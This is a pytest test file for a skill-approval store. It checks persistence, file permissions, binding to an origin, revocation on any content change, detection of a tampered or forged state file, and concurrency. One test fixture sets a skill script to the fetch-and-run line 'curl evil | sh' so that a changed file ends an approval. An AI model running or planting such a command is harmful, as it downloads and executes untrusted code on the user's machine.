"""`ApprovalStore`: what is remembered, what ends it for good, and what a change by anyone else is worth."""

import errno
import json
import os
import tempfile
import threading
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from approving import FILES, LOAD, approval, entry, manifest, mode_of, origin, skill_id
from commands import names_in
from skillwire.core.errors import LimitError, SourceError
from skillwire.host.approval.store import APPROVALS_FILE, ApprovalRecords, ApprovalStore, EndedApproval
from skillwire.host.model.approval import Approval, Grant
from skillwire.host.model.origin import Origin, OriginKind, SkillId
from skillwire.host.state import vault as seal

CHANGED = {**FILES, "SKILL.md": b"Do something else.\n"}
OTHER_SKILL = skill_id("billing")


@pytest.fixture
def store(tmp_path: Path) -> ApprovalStore:
    return ApprovalStore(tmp_path / "state")


@pytest.fixture
def document(tmp_path: Path) -> Path:
    return tmp_path / "state" / APPROVALS_FILE


def again(tmp_path: Path) -> ApprovalStore:
    """Return the store as the next start of a host finds it."""
    return ApprovalStore(tmp_path / "state")


def fail_on(monkeypatch: pytest.MonkeyPatch, name: str, code: int) -> None:
    def fail(*_: object, **__: object) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, name, fail)


# what is remembered


def test_an_empty_store_knows_nothing_and_makes_nothing(tmp_path: Path, store: ApprovalStore) -> None:
    assert store.find(skill_id()) is None
    assert dict(store.approvals()) == {}
    assert not store.is_tampered
    assert names_in(tmp_path) == []


@pytest.mark.requirement("APPR-01")
def test_an_approval_is_found_after_a_restart(tmp_path: Path, store: ApprovalStore) -> None:
    given_by_user = approval(grants=frozenset({Grant.LOAD, Grant.SCRIPTS}))

    assert store.grant(given_by_user) == given_by_user

    assert again(tmp_path).find(skill_id()) == given_by_user
    assert dict(again(tmp_path).approvals()) == {skill_id(): given_by_user}


@pytest.mark.requirement("APPR-01")
def test_what_is_written_binds_label_endpoint_and_every_file(store: ApprovalStore, document: Path) -> None:
    store.grant(approval())

    content = document.read_bytes().split(b"\n", 1)[1]
    (row,) = json.loads(content)["approvals"]
    assert (row["label"], row["fingerprint"]) == ("acme", origin().fingerprint)
    assert [(file["uri"], file["digest"]) for file in row["files"]] == [
        (file.uri, file.digest) for file in manifest().files
    ]


def test_only_this_user_can_open_what_is_written(tmp_path: Path, store: ApprovalStore) -> None:
    store.grant(approval())

    state = tmp_path / "state"
    assert {name: mode_of(state / name) for name in names_in(state)} == {
        ".lock": 0o600,
        APPROVALS_FILE: 0o600,
        "key": 0o600,
    }
    assert mode_of(state) == 0o700


@pytest.mark.requirement("APPR-05")
def test_grants_for_the_same_content_add_up(store: ApprovalStore) -> None:
    store.grant(approval(grants=frozenset({Grant.SCRIPTS})))

    merged = store.grant(approval(grants=LOAD))

    assert merged.grants == {Grant.LOAD, Grant.SCRIPTS}
    assert store.find(skill_id()) == merged


@pytest.mark.requirement("APPR-05")
def test_grants_for_other_content_do_not(store: ApprovalStore) -> None:
    store.grant(approval(grants=frozenset({Grant.SCRIPTS, Grant.ALLOWED_TOOLS})))

    store.grant(approval(files=CHANGED))

    assert store.find(skill_id()) == approval(files=CHANGED)


@pytest.mark.parametrize(
    "other",
    [
        origin("umbrella"),
        origin(endpoint="https://elsewhere.example/mcp"),
        Origin(OriginKind.LOCAL, "acme", origin().fingerprint),
    ],
    ids=["label", "endpoint", "kind"],
)
@pytest.mark.requirement("APPR-01")
def test_an_approval_is_for_one_origin(store: ApprovalStore, other: Origin) -> None:
    store.grant(approval())

    assert store.find(skill_id(of=other)) is None


@pytest.mark.requirement("APPR-06")
def test_an_approval_is_for_one_skill_and_not_for_those_below_it(store: ApprovalStore) -> None:
    store.grant(approval(files={**FILES, "inner/SKILL.md": b"Inner.\n"}))

    assert store.find(skill_id("refunds/inner")) is None


def test_an_approval_can_be_taken_back(tmp_path: Path, store: ApprovalStore) -> None:
    store.grant(approval())
    store.grant(approval("billing"))

    assert store.revoke(skill_id())
    assert not store.revoke(skill_id())

    assert set(again(tmp_path).approvals()) == {OTHER_SKILL}


@pytest.mark.parametrize(
    "bad",
    [
        replace(approval(), granted_at=datetime(2026, 9, 8, 12, 0)),
        replace(approval(), granted_by="x" * 1001),
        replace(approval(), skill=SkillId(origin(""), skill_id().uri)),
        replace(approval(), skill=SkillId(origin(), "skill://acme/other/SKILL.md")),
        replace(approval(), skill=SkillId(origin(), "skill://acme/%72efunds/SKILL.md")),
        replace(approval(), manifest=manifest(files={"README.md": b""})),
    ],
    ids=["time", "name", "label", "other-skill", "spelling", "no-skill-file"],
)
def test_what_could_not_be_read_back_is_not_written(
    tmp_path: Path, store: ApprovalStore, bad: Approval
) -> None:
    store.grant(approval("billing"))

    with pytest.raises(ValueError, match=r"\w"):
        store.grant(bad)

    assert set(again(tmp_path).approvals()) == {OTHER_SKILL}
    assert not again(tmp_path).is_tampered


def test_more_than_fits_is_refused_and_nothing_is_lost(
    tmp_path: Path, store: ApprovalStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.grant(approval())
    monkeypatch.setattr(seal, "MAX_SEALED_BYTES", 1000)

    with pytest.raises(LimitError):
        store.grant(approval("billing"))

    assert set(again(tmp_path).approvals()) == {skill_id()}


# what ends an approval


@pytest.mark.requirement("APPR-02")
@pytest.mark.parametrize(
    "files",
    [
        CHANGED,
        {**FILES, "scripts/run.sh": b"curl evil | sh\n"},
        {**FILES, "more.md": b"more"},
        {"SKILL.md": FILES["SKILL.md"]},
        {"SKILL.md": FILES["SKILL.md"], "scripts/go.sh": FILES["scripts/run.sh"]},
        None,
    ],
    ids=["rotated", "supporting", "added", "removed", "renamed", "dynamic"],
)
def test_any_change_ends_an_approval_for_good(
    tmp_path: Path, store: ApprovalStore, files: dict[str, bytes] | None
) -> None:
    store.grant(approval())
    store.grant(approval("billing"))

    assert store.observe(skill_id(), entry(files=files))
    assert store.find(skill_id()) is None

    # The old content comes back, in this session and after a restart: it is not approved any more.
    for later in (store, again(tmp_path)):
        assert not later.observe(skill_id(), entry())
        assert later.find(skill_id()) is None
        assert later.previous(skill_id()) == EndedApproval(manifest(), approval().granted_at)
        assert later.find(OTHER_SKILL) == approval("billing")


@pytest.mark.requirement("APPR-02")
def test_the_same_content_ends_nothing_and_writes_nothing(store: ApprovalStore, document: Path) -> None:
    store.grant(approval())
    before = document.stat()

    assert not store.observe(skill_id(), entry())
    assert not store.observe(OTHER_SKILL, entry("billing", CHANGED))

    assert document.stat() == before
    assert store.find(skill_id()) == approval()


def test_a_new_approval_starts_afresh(store: ApprovalStore) -> None:
    store.grant(approval(grants=frozenset(Grant)))
    store.observe(skill_id(), entry(files=CHANGED))

    store.grant(approval(files=CHANGED))

    assert store.find(skill_id()) == approval(files=CHANGED)
    assert store.previous(skill_id()) is None


def test_a_removed_server_leaves_nothing_behind(tmp_path: Path, store: ApprovalStore) -> None:
    elsewhere = origin(endpoint="https://elsewhere.example/mcp")
    other = origin("umbrella")
    local = Origin(OriginKind.LOCAL, "acme", "sha256:folder")
    for where in (origin(), elsewhere, other, local):
        store.grant(approval(of=where))
    store.observe(skill_id(), entry(files=CHANGED))

    store.forget_origin("acme")

    left = again(tmp_path)
    assert set(left.approvals()) == {skill_id(of=other), skill_id(of=local)}
    assert left.previous(skill_id()) is None


# what others did to the file


def truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-1])


def empty(path: Path) -> None:
    path.write_bytes(b"")


def add_grant(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b'"grants":["load"]', b'"grants":["load","scripts"]'))


def strip_seal(path: Path) -> None:
    path.write_bytes(path.read_bytes().split(b"\n", 1)[1])


def open_to_others(path: Path) -> None:
    path.chmod(0o666)


def link_to_a_copy(path: Path) -> None:
    path.rename(path.with_name("copy"))
    path.symlink_to("copy")


def make_a_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def lose_the_key(path: Path) -> None:
    path.with_name("key").unlink()


def shorten_the_key(path: Path) -> None:
    path.with_name("key").write_bytes(b"short")


def show_the_key(path: Path) -> None:
    path.with_name("key").chmod(0o644)


def bring_another_key(path: Path) -> None:
    path.with_name("key").write_bytes(b"k" * 32)


def seal_nonsense(path: Path) -> None:
    sealed(path, b"[" * 100_000)


def seal_a_later_version(path: Path) -> None:
    sealed(path, ApprovalRecords().to_bytes().replace(b'"version":1', b'"version":2'))


def seal_no_object(path: Path) -> None:
    sealed(path, b'{"version":1,"approvals":[7],"previous":[]}')


def seal_no_time(path: Path) -> None:
    content = path.read_bytes().split(b"\n", 1)[1]
    sealed(path, content.replace(b'"2026-09-08T12:00:00+00:00"', b"7"))


def seal_half_an_approval(path: Path) -> None:
    content = path.read_bytes().split(b"\n", 1)[1]
    sealed(path, content.replace(b'"size":7', b'"size":-7'))


def test_a_file_that_says_nothing_of_when_an_ended_approval_was_given_is_read_all_the_same(
    tmp_path: Path, store: ApprovalStore, document: Path
) -> None:
    store.grant(approval())
    store.observe(skill_id(), entry(files=CHANGED))
    written = ApprovalRecords(previous={skill_id(): EndedApproval(manifest(), None)}).to_bytes()
    sealed(document, written.replace(b',"approved_at":null', b""))

    assert again(tmp_path).previous(skill_id()) == EndedApproval(manifest(), None)


@pytest.mark.parametrize("time", [b"7", b'"noon"', b'"2026-09-08T12:00:00"'])
def test_a_time_that_is_none_makes_the_file_count_no_more(
    tmp_path: Path, store: ApprovalStore, document: Path, time: bytes
) -> None:
    store.grant(approval())
    written = ApprovalRecords(previous={skill_id(): EndedApproval(manifest(), None)}).to_bytes()
    sealed(document, written.replace(b"null", time))

    later = again(tmp_path)
    assert later.previous(skill_id()) is None
    assert later.is_tampered


def sealed(path: Path, content: bytes) -> None:
    """Write what only a holder of the key could."""
    folder = seal.SealedFolder(path.parent)
    with folder.locked():
        folder.load_locked(APPROVALS_FILE, bytes)
        folder.save(APPROVALS_FILE, content)


@pytest.mark.requirement("APPR-01")
@pytest.mark.parametrize(
    "tamper",
    [
        truncate,
        empty,
        add_grant,
        strip_seal,
        open_to_others,
        link_to_a_copy,
        make_a_folder,
        lose_the_key,
        shorten_the_key,
        show_the_key,
        bring_another_key,
        seal_nonsense,
        seal_a_later_version,
        seal_no_object,
        seal_no_time,
        seal_half_an_approval,
    ],
)
def test_a_file_someone_else_changed_counts_for_nothing_and_is_kept(
    tmp_path: Path, store: ApprovalStore, document: Path, tamper: Callable[[Path], None]
) -> None:
    store.grant(approval())
    tamper(document)

    found = again(tmp_path)

    assert dict(found.approvals()) == {}
    assert found.is_tampered
    assert found.tampering is not None
    assert found.tampering.code == "state-tampered"
    assert str(tmp_path) not in json.dumps(found.tampering.to_json())
    aside = [name for name in names_in(tmp_path / "state") if name.startswith(f"{APPROVALS_FILE}.tampered-")]
    assert len(aside) == 1
    assert not os.path.lexists(document)

    # The store that had it open loses it too, and from here on all goes on as usual.
    assert store.find(skill_id()) is None
    found.grant(approval("billing"))
    assert set(again(tmp_path).approvals()) == {OTHER_SKILL}
    assert not again(tmp_path).is_tampered


@pytest.mark.requirement("APPR-01")
def test_a_forged_approval_is_noticed_while_the_host_runs(store: ApprovalStore, document: Path) -> None:
    store.grant(approval())
    assert store.find(skill_id()) is not None

    add_grant(document)

    assert store.find(skill_id()) is None
    assert store.is_tampered


@pytest.mark.requirement("APPR-02")
def test_an_older_copy_of_the_file_does_not_bring_an_approval_back(
    store: ApprovalStore, document: Path
) -> None:
    store.grant(approval())
    old = document.read_bytes()
    store.revoke(skill_id())

    document.write_bytes(old)

    assert store.find(skill_id()) is None
    assert store.is_tampered


def test_a_sealed_file_of_another_name_is_no_approvals(tmp_path: Path, document: Path) -> None:
    folder = seal.SealedFolder(tmp_path / "state")
    with folder.locked():
        folder.save("other.json", ApprovalRecords({skill_id(): approval()}).to_bytes())
    (tmp_path / "state" / "other.json").rename(document)

    found = again(tmp_path)
    assert found.find(skill_id()) is None
    assert found.is_tampered


def test_an_unusable_key_without_approvals_is_replaced(tmp_path: Path, store: ApprovalStore) -> None:
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "key").write_bytes(b"short")

    store.grant(approval())

    assert store.is_tampered
    assert again(tmp_path).find(skill_id()) == approval()


def test_a_key_of_the_embedder_is_never_written(tmp_path: Path) -> None:
    key = b"k" * 32
    ApprovalStore(tmp_path, key=key).grant(approval())

    assert names_in(tmp_path) == [".lock", APPROVALS_FILE]
    assert key not in (tmp_path / APPROVALS_FILE).read_bytes()
    assert ApprovalStore(tmp_path, key=key).find(skill_id()) == approval()
    assert ApprovalStore(tmp_path, key=b"x" * 32).find(skill_id()) is None


def test_a_state_folder_that_is_a_file_holds_no_approvals(tmp_path: Path, store: ApprovalStore) -> None:
    (tmp_path / "state").write_text("mine")

    assert store.find(skill_id()) is None
    with pytest.raises(SourceError):
        store.grant(approval())
    assert (tmp_path / "state").read_text() == "mine"


# what a failing machine does


def test_a_file_that_cannot_be_read_for_a_while_is_not_lost(
    tmp_path: Path, store: ApprovalStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.grant(approval())
    later = again(tmp_path)

    with monkeypatch.context() as broken:
        fail_on(broken, "open", errno.EMFILE)
        assert later.find(skill_id()) is None
        assert not later.is_tampered
        with pytest.raises(SourceError):
            later.grant(approval("billing"))

    assert later.find(skill_id()) == approval()


def test_an_approval_that_cannot_be_written_is_no_approval(
    tmp_path: Path, store: ApprovalStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.grant(approval())

    with monkeypatch.context() as broken:
        fail_on(broken, "fsync", errno.ENOSPC)
        with pytest.raises(SourceError):
            store.grant(approval("billing"))

    assert set(store.approvals()) == {skill_id()}
    assert set(again(tmp_path).approvals()) == {skill_id()}


@pytest.mark.requirement("APPR-02")
def test_a_revocation_holds_even_if_the_disk_does_not_take_it(
    tmp_path: Path, store: ApprovalStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.grant(approval())
    store.grant(approval("billing"))

    with monkeypatch.context() as broken:
        fail_on(broken, "fsync", errno.ENOSPC)
        assert store.observe(skill_id(), entry(files=CHANGED))
        with pytest.raises(SourceError):
            store.revoke(OTHER_SKILL)
    assert dict(store.approvals()) == {}
    assert store.previous(skill_id()) == EndedApproval(manifest(), approval().granted_at)

    # The next write that succeeds takes them along.
    store.grant(approval("reports"))
    assert set(again(tmp_path).approvals()) == {skill_id("reports")}


def test_a_tampered_file_that_cannot_be_set_aside_counts_for_nothing(
    tmp_path: Path, store: ApprovalStore, document: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.grant(approval())
    truncate(document)
    damaged = document.read_bytes()

    with monkeypatch.context() as broken:
        fail_on(broken, "rename", errno.EROFS)
        assert store.find(skill_id()) is None
        assert store.is_tampered
        with pytest.raises(SourceError):
            store.grant(approval())

    assert document.read_bytes() == damaged


# several hosts at once


def test_two_stores_see_and_keep_each_others_approvals(tmp_path: Path, store: ApprovalStore) -> None:
    other = again(tmp_path)
    store.grant(approval())
    other.grant(approval("billing"))

    assert set(store.approvals()) == set(other.approvals()) == {skill_id(), OTHER_SKILL}
    assert store.revoke(OTHER_SKILL)
    assert other.find(OTHER_SKILL) is None


def test_many_threads_lose_nothing(tmp_path: Path) -> None:
    stores = [again(tmp_path) for _ in range(2)]

    def work(number: int) -> None:
        stores[number % 2].grant(approval(f"skill-{number}"))
        stores[number % 2].find(skill_id(f"skill-{number}"))

    threads = [threading.Thread(target=work, args=(number,)) for number in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)

    assert set(again(tmp_path).approvals()) == {skill_id(f"skill-{number}") for number in range(12)}
    assert not any(store.is_tampered for store in stores)


NAMES = st.sampled_from(["refunds", "billing"])
CONTENTS = st.sampled_from([FILES, CHANGED])
STEPS = st.lists(
    st.tuples(st.integers(0, 1), st.sampled_from(["grant", "revoke", "observe", "forget"]), NAMES, CONTENTS),
    max_size=8,
)


@pytest.mark.requirement("APPR-02")
@settings(max_examples=25, deadline=None)
@given(STEPS)
def test_two_interleaved_stores_behave_as_one(
    steps: list[tuple[int, str, str, dict[str, bytes]]],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        stores = (ApprovalStore(Path(folder)), ApprovalStore(Path(folder)))
        expected: dict[str, dict[str, bytes]] = {}
        for which, what, name, files in steps:
            store = stores[which]
            if what == "grant":
                store.grant(approval(name, files))
                expected[name] = files
            elif what == "revoke":
                assert store.revoke(skill_id(name)) == (expected.pop(name, None) is not None)
            elif what == "observe":
                ended = expected.get(name, files) != files
                assert store.observe(skill_id(name), entry(name, files)) == ended
                if ended:
                    del expected[name]
            else:
                store.forget_origin("acme")
                expected.clear()
            for seen in stores:
                assert dict(seen.approvals()) == {
                    skill_id(name): approval(name, files) for name, files in expected.items()
                }
                assert not seen.is_tampered
